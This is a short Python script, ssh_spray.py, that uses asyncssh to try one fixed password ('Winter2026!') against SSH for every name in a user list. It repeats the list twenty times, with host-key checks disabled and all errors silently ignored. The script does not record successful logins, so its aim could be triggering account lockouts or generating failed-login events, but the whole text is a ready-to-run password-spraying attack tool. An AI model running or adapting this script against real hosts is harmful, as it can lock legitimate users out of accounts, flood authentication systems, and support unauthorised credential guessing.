"""ssh_spray.py HOST PORT USERS GAP: one wrong password for many users, by asyncssh."""
import asyncio
import sys
import warnings

warnings.simplefilter("ignore")
import asyncssh


async def main():
    host, port, users, gap = sys.argv[1:5]
    with open(users) as names:
        for user in names.read().split() * 20:
            try:
                async with asyncssh.connect(host, int(port), username=user, password="Winter2026!", known_hosts=None, client_keys=None, config=None):
                    pass
            except (asyncssh.Error, OSError):
                pass
            await asyncio.sleep(float(gap))


asyncio.run(main())
